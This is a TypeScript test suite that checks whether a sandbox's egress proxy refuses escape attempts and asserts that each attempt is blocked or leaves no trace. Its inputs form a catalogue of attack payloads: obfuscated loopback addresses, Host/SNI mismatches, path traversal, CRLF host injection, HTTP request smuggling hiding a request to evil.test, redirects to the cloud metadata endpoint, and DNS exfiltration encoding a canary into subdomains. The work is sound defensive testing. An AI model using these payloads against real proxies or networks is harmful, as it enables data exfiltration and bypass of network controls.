import { beforeAll, describe, expect, test } from 'vitest';

import { connect, get, proxied } from './support/bottle/attempts.ts';
import type { Attempt } from './support/bottle/escape-case.ts';
import { ESCAPE_BACKENDS } from './support/bottle/escape-backends.ts';
import { escapeStage } from './support/bottle/escape-stage.ts';
import type { Escape } from './support/bottle/escape.ts';
import { ALLOWED, FORBIDDEN, LOOPBACK_PORT } from './support/bottle/internet.ts';

/** The checks E4 and E7 to E11: names, spellings and requests with two readings, from within a bottle as its user and as its root. See bottle-escape.test.ts. Its groups are [backend:native] and [backend:docker]. */
describe.each(ESCAPE_BACKENDS)('[backend:%s] a bottle keeps to the letter', (backend, usable) => {
  describe.skipIf(!usable)('what is not allowed', () => {
    const stage = escapeStage(backend);
    const { canary } = stage;
    let escape: Escape;
    beforeAll(async () => {
      escape = await stage.open('escape');
    });

    test('E7: addresses in every spelling', async () => {
      const spellings = [
        '127.1',
        '2130706433',
        '0x7f000001',
        '0177.0.0.1',
        '0',
        '127.0.0.1.',
        '0x7f.1',
        '017700000001',
        '127.0.1',
        '1.2.3.256',
        '2852039166',
      ];
      await escape.refuses(
        spellings.map((text) => connect(`${text}:443`)),
        ['legacy-address', 'bad-host'],
      );
      await escape.refuses(
        ['localhost', 'localhost.', 'LOCALHOST', 'x.localhost'].map((text) => connect(`${text}:443`)),
        ['local-name'],
      );
      await escape.refuses(
        [
          connect('127.0.0.1:443'),
          connect(`127.0.0.1:${LOOPBACK_PORT}`),
          connect('0.0.0.0:443'),
          connect('127.0.0.1.nip.test:443'),
        ],
        ['special-address'],
      );
      await escape.refuses([connect(`${FORBIDDEN}:443`), connect(`${ALLOWED}:443`)], ['no-route']);
    });

    test('E8: names that do not agree', async () => {
      const at = (name: string | null, send: string, more: Partial<Attempt> = {}) =>
        connect('allowed.test:443', { name, send, trust: false, ...more });
      await escape.refuses(
        [
          at('evil.test', get('evil.test')),
          at('other.test', get('other.test')),
          at('allowed.test', get('evil.test')),
          at('allowed.test', get('other.test')),
          at('allowed.test', get('allowed.test:444')),
          at('allowed.test', `GET https://other.test/ HTTP/1.1\r\nHost: allowed.test\r\n\r\n`),
          { do: 'proxy', send: `GET http://allowed.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n` },
          { do: 'proxy', send: `GET http://evil.test/ HTTP/1.1\r\nHost: allowed.test\r\n\r\n` },
        ],
        ['name-mismatch', 'no-route'],
      );
      await escape.refuses([at(null, get('allowed.test'))], ['no-server-name']);
      await escape.refuses(
        [
          at('allowed.test', 'GET / HTTP/1.1\r\nHost: allowed.test\r\nHost: evil.test\r\n\r\n'),
          at('allowed.test', 'GET / HTTP/1.1\r\n\r\n'),
        ],
        ['bad-request'],
      );
      await escape.refuses([connect('allowed.test:443', { plain: true, send: get('allowed.test') })], ['plain-http']);
      await escape.refuses(
        [
          at('allowed.test', 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'),
          at('allowed.test', 'x', { protocols: ['h2'] }),
          connect('allowed.test:443', { plain: true, send: 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n' }),
        ],
        ['http2', 'plain-http'],
      );
      await escape.refuses(
        [
          connect('pinned.test:443', { name: 'evil.test', trust: false, send: get('evil.test') }),
          connect('pinned.test:443', { plain: true, send: get('pinned.test') }),
        ],
        ['name-mismatch', 'not-tls', 'bad-client-hello'],
      );
    });

    test('E8: methods and paths that a route does not name', async () => {
      const at = (line: string, ...more: readonly string[]) =>
        connect('api.wild.test:443', {
          name: 'api.wild.test',
          send: [`${line} HTTP/1.1`, 'Host: api.wild.test', ...more, '', ''].join('\r\n'),
        });
      const paths = [
        '/',
        '/publicity',
        '/PUBLIC',
        '//public/x',
        '/public/../x',
        '/public/%2e%2e/x',
        '/public%2f..%2fx',
        '/public/..;/x',
        '/public/%252e%252e/x',
        '/public/..%5cx',
        '/public%00',
        '/public/%',
      ];
      await escape.refuses(
        [
          ...paths.map((path) => at(`GET ${path}`)),
          at('POST /public', 'Content-Length: 0'),
          at('get /public'),
          at('GET /public', 'X-HTTP-Method-Override: DELETE'),
          {
            do: 'proxy',
            send: `PUT http://api.wild.test/public HTTP/1.1\r\nHost: api.wild.test\r\nContent-Length: 0\r\n\r\n`,
          },
        ],
        ['no-match', 'bad-path'],
      );
      await escape.works([at('GET /public'), at('GET /public/x?y=/../z'), at('GET /%70ublic')]);
    });

    test('E8: what is for one hop stays on it', async () => {
      const before = (await stage.world.sightings()).requests.length;
      const send = [
        'GET http://allowed.test/hop HTTP/1.1',
        'Host: allowed.test',
        'Connection: Upgrade, HTTP2-Settings, X-Own, close',
        'Upgrade: h2c',
        'HTTP2-Settings: AAMAAABkAAQAAP__',
        'X-Own: y',
        'Proxy-Authorization: Basic eDp5',
        'X-Kept: z',
        '',
        '',
      ];
      const [outcome] = await escape.attack([{ do: 'pipeline', send: send.join('\r\n') }]);
      expect(outcome?.received).toMatch(/^HTTP\/1\.1 200/);
      const seen = (await stage.world.sightings()).requests.slice(before);
      expect(seen).toMatchObject([{ url: '/hop', headers: { 'x-kept': 'z' } }]);
      for (const name of ['upgrade', 'http2-settings', 'x-own', 'proxy-authorization'])
        expect(seen[0]?.headers).not.toHaveProperty(name);
      await escape.nothingCameOut();
    });

    test('E9: hosts in disguise', async () => {
      const targets = [
        'evil.test\0.allowed.test',
        'allowed.test\0.evil.test',
        'allowed.test\tevil',
        'allowed.test%00.evil.test',
        'allowed.test@evil.test',
        'evil.test#.allowed.test',
        'evil.test?allowed.test',
        'evil.test/allowed.test',
        `${'a'.repeat(64)}.wild.test`,
        `${'a.'.repeat(130)}wild.test`,
        'allowed_test',
        'allowed..test',
        '-.wild.test',
        'ａllowed.test',
      ];
      await escape.refuses(
        targets.map((target) => connect(`${target}:443`)),
        ['bad-host', 'bad-authority', 'bad-request'],
      );
      await escape.refuses(
        [
          'evil.test\rallowed.test',
          'allowed.test\nHost: evil.test',
          'allowed.test\r\n\r\nGET http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n',
          '.allowed.test',
          'allowed.test..',
          '*.wild.test',
          'allo\u1E98ed.test',
          '\u2460\u2461\u2466.0.0.1',
          '127\u30020\u30020\u30021',
          '[::1%1]',
        ].map((target) => connect(`${target}:443`)),
        ['bad-host', 'bad-authority', 'bad-request'],
      );
      const targets2 = [
        'http://allowed.test:80@evil.test/',
        'http://allowed.test:080/',
        'http:allowed.test/',
        'http:///evil.test/',
      ];
      await escape.refuses(
        [
          ...[...targets2, 'http://allowed.test\\@evil.test/', 'ftp://allowed.test/', 'http://allowed.test/\x80'].map(
            (target) => ({
              do: 'proxy',
              send: `GET ${target} HTTP/1.1\r\nHost: allowed.test\r\n\r\n`,
            }),
          ),
          connect('allowed.test:443', { name: '*.wild.test', trust: false }),
        ],
        ['bad-host', 'bad-authority', 'bad-request'],
      );
      await escape.refuses(
        ['allowed.test.evil.test', 'notallowed.test', 'wild.test', 'evil-wild.test', 'xn--allowed-.test'].map(
          (target) => connect(`${target}:443`),
        ),
        ['no-route', 'bad-host'],
      );
      await escape.refuses([connect('denied.wild.test:443'), connect('DENIED.wild.test.:443')], ['deny-list']);
      await escape.refuses(
        [
          { do: 'dns', name: 'allowed.test.evil.test' },
          { do: 'dns', name: 'denied.wild.test' },
          { do: 'dns', name: 'evil.test\0allowed.test' },
        ],
        ['no-route'],
      );
      await escape.works([connect('ALLOWED.test.:443', { name: 'allowed.test', send: get('Allowed.TEST') })]);
    });

    test('E10: two readings of one request', async () => {
      const post = (...lines: readonly string[]) => ({
        do: 'proxy',
        send: ['POST http://allowed.test/smuggle HTTP/1.1', 'Host: allowed.test', ...lines].join('\r\n'),
      });
      const hidden = `GET http://evil.test/?${canary} HTTP/1.1\r\nHost: evil.test\r\n\r\n`;
      await escape.refuses(
        [
          post('Content-Length: 4', 'Transfer-Encoding: chunked', '', `0\r\n\r\n${hidden}`),
          post('Transfer-Encoding: chunked', 'Transfer-Encoding: identity', '', `0\r\n\r\n${hidden}`),
          post('Transfer-Encoding: xchunked', '', hidden),
          post('Transfer-Encoding : chunked', '', hidden),
          post('Transfer-Encoding:\tchunked, identity', '', hidden),
          post('Content-Length: 5', 'Content-Length: 0', '', hidden),
          post('Content-Length: +5', '', hidden),
          post('X: y', ' folded: z', '', ''),
          post('X: a\rContent-Length: 5', '', hidden),
          { do: 'proxy', send: 'GET http://allowed.test/ HTTP/1.1\nHost: allowed.test\n\n' },
          {
            do: 'proxy',
            send: `GET http://allowed.test/ HTTP/1.1\r\nHost: allowed.test\r\nX: ${'y'.repeat(70_000)}\r\n\r\n`,
          },
        ],
        ['bad-framing', 'bad-request', 'head-too-large'],
      );
      await escape.refuses(
        [
          post('Expect: 200-ok', '', ''),
          post('Expect: 100-continue', 'Expect: x', '', ''),
          post('Transfer-Encoding: chunked', '', '-1\r\n'),
          post('Transfer-Encoding: chunked', '', '0x5\r\nhello\r\n0\r\n\r\n'),
          post('Transfer-Encoding: chunked', '', '5;x\nhello\r\n0\r\n\r\n'),
          {
            do: 'proxy',
            send: `POST http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\nExpect: 100-continue\r\nContent-Length: 5\r\n\r\n`,
          },
          { do: 'proxy', send: 'GET http://allowed.test/ HTTP/1.2\r\nHost: allowed.test\r\n\r\n' },
          { do: 'proxy', send: 'GET\thttp://allowed.test/\tHTTP/1.1\r\nHost: allowed.test\r\n\r\n' },
          { do: 'proxy', send: '\r\nGET http://allowed.test/ HTTP/1.1\r\nHost: allowed.test\r\n\r\n' },
        ],
        ['bad-framing', 'bad-request', 'no-route'],
      );
      const [continued] = await escape.attack([
        {
          do: 'pipeline',
          until: 'decant-rule: ',
          send: `${post('Expect: 100-continue', 'Content-Length: 5', '', 'hello').send}${hidden}`,
        },
      ]);
      expect(continued?.received).toMatch(/^HTTP\/1\.1 100 [^]*"bodyBytes":5[^]*decant-rule: no-route/);
      const [path] = await escape.attack([
        {
          do: 'pipeline',
          until: 'decant-rule: ',
          target: 'api.wild.test:443',
          name: 'api.wild.test',
          send: `GET /public HTTP/1.1\r\nHost: api.wild.test\r\n\r\nGET /private HTTP/1.1\r\nHost: api.wild.test\r\n\r\n`,
        },
      ]);
      expect(path?.received).toMatch(/"answered":true[^]*decant-rule: no-match/);
      const before = (await stage.world.sightings()).requests.length;
      const two = (path: string) => `GET http://allowed.test/${path} HTTP/1.1\r\nHost: allowed.test\r\n\r\n`;
      const [pipelined, tunnelled, chunked] = await escape.attack([
        { do: 'pipeline', until: 'decant-rule: ', send: `${two('first')}${hidden}` },
        {
          do: 'pipeline',
          until: 'decant-rule: ',
          target: 'allowed.test:443',
          name: 'allowed.test',
          send: `${get('allowed.test')}${get('evil.test')}`,
        },
        {
          do: 'pipeline',
          until: 'decant-rule: ',
          send: `POST http://allowed.test/c HTTP/1.1\r\nHost: allowed.test\r\nTransfer-Encoding: chunked\r\n\r\n3;x=y\r\nabc\r\n0\r\n\r\n${hidden}`,
        },
      ]);
      for (const outcome of [pipelined, tunnelled, chunked]) {
        expect(outcome?.received?.match(/"answered":true/g)).toHaveLength(1);
        expect(outcome?.received).toMatch(/decant-rule: (?:no-route|name-mismatch)/);
      }
      const seen = (await stage.world.sightings()).requests.slice(before);
      expect(seen.map(({ url }) => url)).toEqual(['/first', '/', '/c']);
      expect(seen.at(-1)?.bodyBytes).toBe(3);
      await escape.nothingCameOut();
    });

    test('E11: redirects are the client’s, and each is judged', async () => {
      const to = (status: number, url: string) =>
        proxied(`https://allowed.test/redirect/${status}?to=${encodeURIComponent(url)}`);
      await escape.refuses(
        [
          to(301, 'https://evil.test/'),
          to(302, `http://${FORBIDDEN}/`),
          to(307, 'http://169.254.169.254/latest/'),
          to(308, 'http://evil.test/'),
          to(302, `http://127.0.0.1:${LOOPBACK_PORT}/`),
          to(302, 'https://denied.wild.test/'),
        ],
        ['no-route', 'metadata', 'special-address', 'deny-list'],
      );
      const [stayed] = await escape.attack([{ ...to(302, 'https://evil.test/'), follow: false }]);
      expect(stayed).toMatchObject({ status: 302 });
      await escape.works([to(302, 'https://other.test/')]);
    });

    // Last: it uses up what the bottle may ask for.
    test('E4: names as messages', async () => {
      const data = Buffer.from(canary).toString('hex');
      const denied = Array.from({ length: 200 }, (_, i) => `${data.slice(0, 40)}${i}.evil.test`);
      const [first, ...types] = await escape.attack([
        { do: 'names', names: denied },
        ...['TXT', 'NULL', 'MX', 'AAAA', 'ANY', 'HTTPS'].map((kind) => ({
          do: 'names',
          names: denied.slice(0, 5),
          kind,
        })),
        ...['A', 'TXT', 'MX'].map((kind) => ({
          do: 'names',
          names: denied.slice(0, 20).map((name) => name.replace('evil', 'wild')),
          kind,
        })),
      ]);
      expect(first?.counts).toEqual({ '3/none': 200 });
      for (const outcome of types) expect(Object.keys(outcome.counts ?? {})).toEqual(['3/none']);
      await escape.asked(/evil|[0-9a-f]{40}/, 0);
      await escape.audited(['no-route', 'name-entropy']);
      const short = Array.from(
        { length: 300 },
        (_, i) => `${data.slice((i * 6) % 40, ((i * 6) % 40) + 6)}x${i}.wild.test`,
      );
      await escape.attack([{ do: 'names', names: short }]);
      await escape.audited(['dns-budget']);
      const asked = (await stage.world.sightings()).names.filter((name) => /x\d+\.wild\.test$/.test(name));
      expect(new Set(asked).size).toBeLessThanOrEqual(128);
      expect(new Set(asked).size).toBeGreaterThan(10);
      const audit = JSON.stringify(await stage.world.audit(escape.opened.slug));
      expect(audit).not.toContain(data.slice(0, 40));
      expect(audit).not.toContain(canary);
      // Names that routes name in full are not below a wildcard.
      await escape.works([proxied('https://other.test/')]);
    });
  });
});
